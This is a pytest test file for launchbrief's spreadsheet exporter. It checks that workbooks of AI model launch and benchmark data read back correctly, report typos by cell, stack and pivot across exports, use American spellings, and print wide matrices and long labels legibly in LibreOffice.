    assert {(row["Scale"], row["Direction"]) for row in details} == {("Percent", "Higher")}
    results = _records(_rows(workbook_path, "Results"))
    assert {(row["Scale"], row["Direction"]) for row in results} == {("Percent", "Higher")}
    matrix = _records(_rows(workbook_path, "Benchmarks"))
    assert {row["Direction"] for row in matrix} == {"Higher"}
    ws = openpyxl.load_workbook(workbook_path)["Rollout"]
    lists = {v.formula1 for v in ws.data_validations.dataValidation}
    assert '"Live,Rolling out,Preview,Planned,Unknown"' in lists
    about = [v for row in _rows(workbook_path, "About") for v in row if isinstance(v, str)]
    assert any("(Internal, Third-party)" in v for v in about)
    assert not any(
        code in v
        for v in about
        for code in ("rolling_out", "third_party")
        if "take the word or the code" not in v
    )


@pytest.mark.parametrize(
    ("status", "kind", "direction"),
    [
        ("Rolling out", "Third-party", "Lower"),  # the words
        ("rolling_out", "third_party", "lower"),  # the codes
        ("  ROLLING  OUT ", "third-party", " LOWER"),  # typed loosely
    ],
)
def test_words_and_codes_both_read_back(
    tmp_path: Path, launch: Launch, status: str, kind: str, direction: str
) -> None:
    """A hand-edited status, source kind or direction reads back whether typed as the word or the code."""
    path = _export(launch, tmp_path / "words.xlsx")
    workbook = openpyxl.load_workbook(path)
    for sheet, column, value in (
        ("Rollout", "Status", status),
        ("Sources", "Kind", kind),
        ("Benchmark details", "Direction", direction),
    ):
        ws = workbook[sheet]
        header = [cell.value for cell in ws[1]]
        ws.cell(2, header.index(column) + 1).value = value
    workbook.save(path)
    back = launchbrief.load(path)
    assert back.surfaces[0].status is RolloutStatus.ROLLING_OUT
    assert back.sources[0].kind is SourceKind.THIRD_PARTY
    assert back.benchmarks[0].direction is Direction.LOWER


def test_a_mistyped_word_is_located(tmp_path: Path, launch: Launch) -> None:
    """A status that is neither a word nor a code is reported at its cell, with the choices."""
    path = _export(launch, tmp_path / "typo.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Rollout"]
    header = [cell.value for cell in ws[1]]
    letter = get_column_letter(header.index("Status") + 1)
    ws[f"{letter}3"] = "Rolling"
    workbook.save(path)
    (problem,) = _problems_of(path)
    assert str(problem).startswith(
        f"{path}: Rollout!{letter}3 (Status): surfaces[1].status: expected one of live,"
        " rolling_out, preview, planned, unknown, got 'Rolling'"
    )


def test_results_of_two_exports_stack_and_pivot(
    workbook_path: Path, aster_path: Path, launch: Launch, aster: Launch
) -> None:
    """Two workbooks' Results tables have the same columns: pasted one under the other, they
    pivot on Launch, As-of (real dates) and Launched."""
    first, second = _rows(workbook_path, "Results"), _rows(aster_path, "Results")
    assert first[0] == second[0]
    assert {"Launch", "As-of", "Launched"} <= set(first[0])
    stacked = _records([first[0], *first[1:], *second[1:]])
    pivot: dict[tuple[str, Any, bool], int] = {}
    for row in stacked:
        key = (row["Launch"], row["As-of"], row["Launched"])
        pivot[key] = pivot.get(key, 0) + 1
    expected: dict[tuple[str, Any, bool], int] = {}
    for record in (launch, aster):
        launched = {m.id for m in record.launched}
        as_of = datetime.combine(record.as_of, datetime.min.time()) if record.as_of else None
        for result in record.results:
            key = (record.id, as_of, result.model in launched)
            expected[key] = expected.get(key, 0) + 1
    assert pivot == expected
    ws = openpyxl.load_workbook(workbook_path)["Results"]
    header = [cell.value for cell in ws[1]]
    cell = ws.cell(2, header.index("As-of") + 1)
    assert (cell.is_date, cell.value, cell.number_format) == (
        True,
        datetime(2026, 11, 30),
        "yyyy-mm-dd",
    )
    book = CalamineWorkbook.from_path(str(workbook_path))
    rows = _records(book.get_sheet_by_name("Results").to_python())
    assert {row["As-of"] for row in rows} == {date(2026, 11, 30)}


def test_launch_and_as_of_columns_are_not_read_back(tmp_path: Path, launch: Launch) -> None:
    """Launch, As-of and Launched in Results are views: edited or cleared, the record is unchanged
    (the Launch sheet and the Models sheet hold those facts)."""
    path = _export(launch, tmp_path / "views.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Results"]
    header = [cell.value for cell in ws[1]]
    ws.cell(2, header.index("As-of") + 1).value = datetime(1999, 1, 1)
    ws.cell(3, header.index("As-of") + 1).value = None
    ws.cell(2, header.index("Launch") + 1).value = "another-launch"
    ws.cell(2, header.index("Launched") + 1).value = False
    workbook.save(path)
    assert launchbrief.load(path) == launch


def test_british_licence_headers_still_read(tmp_path: Path, aster: Launch) -> None:
    """A workbook with the old headers Licence, Licence URL, Licence source ids reads back equal."""
    path = _export(aster, tmp_path / "licence.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Models"]
    for cell in ws[1]:
        if cell.value and str(cell.value).startswith("License"):
            cell.value = str(cell.value).replace("License", "Licence")
    workbook.save(path)
    assert [
        c.value for c in openpyxl.load_workbook(path)["Models"][1] if "Lic" in str(c.value)
    ] == [
        "Licence",
        "Licence URL",
        "Licence source ids",
    ]
    assert launchbrief.load(path) == aster


def test_the_workbook_speaks_american_english(workbook_path: Path) -> None:
    """Every text of the built-in launch's workbook (its record is American English too) avoids
    British spellings."""
    book = CalamineWorkbook.from_path(str(workbook_path))
    texts = [
        value
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for value in row
        if isinstance(value, str)
    ]
    texts += [_chart_title(chart) for chart in _charts(workbook_path)]
    british = re.compile(r"\b(licence|colour|grey|organis|behaviour|modelling|analys(e|ing))", re.I)
    assert [text for text in texts if british.search(text)] == []


_LONG_CATEGORY = "multilingual reading comprehension and translation across forty languages"


def _long_category(launch: Launch) -> Launch:
    benchmarks = tuple(
        attrs.evolve(b, category=_LONG_CATEGORY) if b.id == "charxiv-reasoning" else b
        for b in launch.benchmarks
    )
    return attrs.evolve(launch, benchmarks=benchmarks)


def test_long_category_labels_wrap_rather_than_being_cut(tmp_path: Path, launch: Launch) -> None:
    """A long category wraps in the matrix and in the Charts tables, in a row tall enough for it."""
    path = _export(_long_category(launch), tmp_path / "long.xlsx")
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Benchmarks"]
    cell = next(row[2] for row in ws.iter_rows(min_row=2) if row[2].value == _LONG_CATEGORY)
    assert cell.alignment.wrap_text is True
    width = ws.column_dimensions[cell.column_letter].width
    lines = -(-len(_LONG_CATEGORY) // int(width))
    assert ws.row_dimensions[cell.row].height >= 15 * lines
    charts = workbook["Charts"]
    labels = [
        row[1]
        for row in charts.iter_rows(min_row=2)
        if len(row) > 1 and row[1].value == _LONG_CATEGORY
    ]
    assert labels  # the leads and trails table
    for label in labels:
        assert label.alignment.wrap_text is True
        assert charts.row_dimensions[label.row].height >= 30
    assert charts.column_dimensions["B"].width >= 30


@pytest.mark.office
def test_libreoffice_prints_long_category_labels_whole(tmp_path: Path, launch: Launch) -> None:
    """LibreOffice prints every word of a long category, in the matrix and on the Charts sheet."""
    path = _export(_long_category(launch), tmp_path / "long.xlsx", sheets=["Benchmarks", "Charts"])
    convert([path], tmp_path, "pdf")
    text = pdf_text(tmp_path / "long.pdf")
    assert text.count("forty languages") >= 2


def test_a_wide_matrix_prints_readable(tmp_path: Path) -> None:
    """A 28-model matrix prints at 55% or more over pages across, its header row and Leaderboard
    column on each page, each category from a new page when it does not fit the rest of one;
    Results prints across pages with its first columns repeated."""
    family = family_launch(models=22, benchmarks=24, cohorts=2)
    path = _export(family, tmp_path / "wide.xlsx", sheets=["Benchmarks", "Results"])
    workbook = openpyxl.load_workbook(path)
    ws = workbook["Benchmarks"]
    assert ws.print_title_rows == "$1:$1"
    assert ws.print_title_cols == "$A:$A"
    assert ws.sheet_properties.pageSetUpPr.fitToPage is False
    assert ws.page_setup.scale >= 55
    categories = [row[2].value for row in ws.iter_rows(min_row=2)]
    starts = {i + 2 for i in range(1, len(categories)) if categories[i] != categories[i - 1]}
    breaks = [brk.id + 1 for brk in ws.row_breaks.brk]
    assert breaks
    assert set(breaks) <= starts  # a page starts only where a category does
    results = workbook["Results"]
    assert results.print_title_rows == "$1:$1"
    assert results.print_title_cols == "$A:$C"
    assert results.page_setup.fitToWidth >= 2


@pytest.mark.office
def test_libreoffice_repeats_the_matrix_header_on_every_page(tmp_path: Path) -> None:
    """Printed by LibreOffice, every page of a wide matrix starts with its header and names."""
    family = family_launch(models=22, benchmarks=12, cohorts=2)
    path = _export(family, tmp_path / "wide.xlsx", sheets=["Benchmarks"])
    convert([path], tmp_path, "pdf")
    pdf = tmp_path / "wide.pdf"
    pages = pdf_pages(pdf)
    assert pages >= 2
    for page in range(1, pages + 1):
        text = subprocess.run(
            ["pdftotext", "-f", str(page), "-l", str(page), str(pdf), "-"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        assert "Leaderboard" in text, page
        assert "Bench " in text, page


def test_note_shapes_are_the_bytes_openpyxl_writes() -> None:
    """The notes' drawing written shape by shape is byte for byte openpyxl's own (its internals
    are used: this fails first if a new openpyxl draws notes differently)."""
    from openpyxl.comments import Comment
    from openpyxl.comments.comment_sheet import CommentRecord, CommentSheet
    from openpyxl.comments.shape_writer import ShapeWriter

    from launchbrief.exporters.xlsx import _note_shapes

    sheet = openpyxl.Workbook().active
    records = []
    for row in range(1, 8):
        cell = sheet.cell(row=row, column=2)
        cell.comment = Comment(f"note {row}: <&> “quoted”", "launchbrief", 60 + row, 200)
        records.append(CommentRecord.from_cell(cell))
    notes = CommentSheet.from_comments(records)
    assert ShapeWriter(notes.comments).write(None) == _note_shapes(notes)
